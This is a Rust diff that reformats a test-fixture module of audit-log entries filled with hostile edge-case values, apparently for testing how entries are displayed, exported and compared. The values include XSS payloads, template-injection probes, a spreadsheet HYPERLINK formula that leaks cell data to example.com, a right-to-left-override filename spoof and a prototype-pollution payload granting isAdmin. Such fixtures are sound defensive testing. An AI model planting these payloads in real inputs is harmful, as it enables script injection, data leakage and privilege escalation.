@@ -1,4 +1,5 @@
-//! Owns what is legal and looks like an attack or a mistake: whatever shows, exports or compares entries has to bear it.
+//! Owns what is legal and looks like an attack or a mistake: whatever shows, exports or compares
+//! entries has to bear it.
 
 use super::world::Done;
 use shared::entry::Target;
@@ -12,7 +13,12 @@ pub(super) fn all() -> Vec<Done> {
     of_names().into_iter().zip(of_values()).flat_map(|(name, value)| [name, value]).collect()
 }
 
-fn done(action: &'static str, (kind, id, name): (&str, &str, &str), old: Option<&str>, new: Option<&str>) -> Done {
+fn done(
+    action: &'static str,
+    (kind, id, name): (&str, &str, &str),
+    old: Option<&str>,
+    new: Option<&str>,
+) -> Done {
     let value = |text: &str| JsonText::from_stored(text.to_owned()).ok();
     let target = Target { kind: kind.to_owned(), id: id.to_owned(), name: Some(name.to_owned()) };
     Done { action, target, old_value: old.and_then(value), new_value: new.and_then(value) }
@@ -26,19 +32,29 @@ fn of_names() -> [Done; COUNT / 2] {
             "project.create",
             ("project", "prj_markup", "<img src=x onerror=alert(1)>"),
             None,
-            Some(r#"{"description":"</script><script>alert(1)</script>","name":"<img src=x onerror=alert(1)>","tags":["&amp;","{{7*7}}","${7*7}"]}"#),
+            Some(
+                r#"{"description":"</script><script>alert(1)</script>","name":"<img src=x onerror=alert(1)>","tags":["&amp;","{{7*7}}","${7*7}"]}"#,
+            ),
         ),
         done(
             "member.invite",
-            ("member", "mbr_formula", r#"=HYPERLINK("https://example.com/?leak="&A1,"Open invoice")"#),
+            (
+                "member",
+                "mbr_formula",
+                r#"=HYPERLINK("https://example.com/?leak="&A1,"Open invoice")"#,
+            ),
             None,
-            Some(r#"{"email":"+formula@example.com","name":"=HYPERLINK(\"https://example.com/?leak=\"&A1,\"Open invoice\")","role":"@SUM(1+1)"}"#),
+            Some(
+                r#"{"email":"+formula@example.com","name":"=HYPERLINK(\"https://example.com/?leak=\"&A1,\"Open invoice\")","role":"@SUM(1+1)"}"#,
+            ),
         ),
         done(
             "member.invite",
             ("member", "mbr_direction", "Anna \u{202e}txt.exe"),
             None,
-            Some("{\"email\":\"anna@example.org\",\"name\":\"Anna \u{202e}txt.exe\",\"role\":\"guest\"}"),
+            Some(
+                "{\"email\":\"anna@example.org\",\"name\":\"Anna \u{202e}txt.exe\",\"role\":\"guest\"}",
+            ),
         ),
         done(
             "project.update",
@@ -50,7 +66,9 @@ fn of_names() -> [Done; COUNT / 2] {
             "project.update",
             ("project", "prj_lines", "\t-2+3\r\nSecond line, \"quoted\""),
             Some(r#"{"name":"Lines"}"#),
-            Some(r#"{"name":"\t-2+3\r\nSecond line, \"quoted\"","notes":"\u0000\u001b[31mred\u001b[0m"}"#),
+            Some(
+                r#"{"name":"\t-2+3\r\nSecond line, \"quoted\"","notes":"\u0000\u001b[31mred\u001b[0m"}"#,
+            ),
         ),
         done(
             "member.remove",
@@ -58,7 +76,12 @@ fn of_names() -> [Done; COUNT / 2] {
             Some("{\"email\":\"admin@example.net\",\"name\":\"admin\u{200b}\",\"role\":\"guest\"}"),
             None,
         ),
-        done("project.update", ("project", "prj_longest", &longest), Some(r#"{"archived":false}"#), Some(r#"{"archived":true}"#)),
+        done(
+            "project.update",
+            ("project", "prj_longest", &longest),
+            Some(r#"{"archived":false}"#),
+            Some(r#"{"archived":true}"#),
+        ),
     ]
 }
 
@@ -66,31 +89,57 @@ fn of_names() -> [Done; COUNT / 2] {
 fn of_values() -> [Done; COUNT / 2] {
     let deepest = format!(r#"{{"mapping":{}"leaf"{}}}"#, "[".repeat(15), "]".repeat(15));
     let elements = |skipped: u32| {
-        let elements: Vec<_> = (0..1_000).filter(|number| *number != skipped).map(|number| format!("\"h-{number:04}.example.net\"")).collect();
+        let elements: Vec<_> = (0..1_000)
+            .filter(|number| *number != skipped)
+            .map(|number| format!("\"h-{number:04}.example.net\""))
+            .collect();
         format!(r#"{{"blocked_hosts":[{}]}}"#, elements.join(","))
     };
     [
         done(
             "settings.update",
             ("settings", "advanced", "Advanced"),
-            Some(r#"{"__proto__":null,"constructor":"Object","hasOwnProperty":true,"toString":"off"}"#),
-            Some(r#"{"__proto__":{"isAdmin":true},"constructor":{"prototype":{}},"hasOwnProperty":false,"toString":"on"}"#),
+            Some(
+                r#"{"__proto__":null,"constructor":"Object","hasOwnProperty":true,"toString":"off"}"#,
+            ),
+            Some(
+                r#"{"__proto__":{"isAdmin":true},"constructor":{"prototype":{}},"hasOwnProperty":false,"toString":"on"}"#,
+            ),
         ),
         done(
             "settings.update",
             ("settings", "billing", "Billing"),
-            Some(r#"{"credit_limit_cents":18446744073709551615,"epsilon":1e-400,"rate":1.0,"reference":9007199254740992,"zero":0}"#),
-            Some(r#"{"credit_limit_cents":18446744073709551616,"epsilon":2e-400,"rate":1.00,"reference":9007199254740993,"zero":-0.0}"#),
+            Some(
+                r#"{"credit_limit_cents":18446744073709551615,"epsilon":1e-400,"rate":1.0,"reference":9007199254740992,"zero":0}"#,
+            ),
+            Some(
+                r#"{"credit_limit_cents":18446744073709551616,"epsilon":2e-400,"rate":1.00,"reference":9007199254740993,"zero":-0.0}"#,
+            ),
         ),
         done("project.update", ("project", "prj_kinds", "Kinds"), Some("null"), Some(r#""null""#)),
-        done("integration.connect", ("integration", "int_deepest", "Deep mapping"), None, Some(&deepest)),
-        done("project.update", ("project", "prj_shape", "Shape"), Some(r#"{"owners":{"0":"a","1":"b"}}"#), Some(r#"{"owners":["a","b"]}"#)),
+        done(
+            "integration.connect",
+            ("integration", "int_deepest", "Deep mapping"),
+            None,
+            Some(&deepest),
+        ),
+        done(
+            "project.update",
+            ("project", "prj_shape", "Shape"),
+            Some(r#"{"owners":{"0":"a","1":"b"}}"#),
+            Some(r#"{"owners":["a","b"]}"#),
+        ),
         done(
             "settings.update",
             ("settings", "labels", "Labels"),
             Some("{\"\":1,\"a/b\":1,\"a~b\":1,\"e\u{301}\":1,\"é\":1}"),
             Some("{\"\":2,\" \":1,\"a/b\":2,\"a~b\":[],\"e\u{301}\":2,\"é\":1,\"😀\":1}"),
         ),
-        done("settings.update", ("settings", "network", "Network"), Some(&elements(500)), Some(&elements(1_000))),
+        done(
+            "settings.update",
+            ("settings", "network", "Network"),
+            Some(&elements(500)),
+            Some(&elements(1_000)),
+        ),
     ]
 }
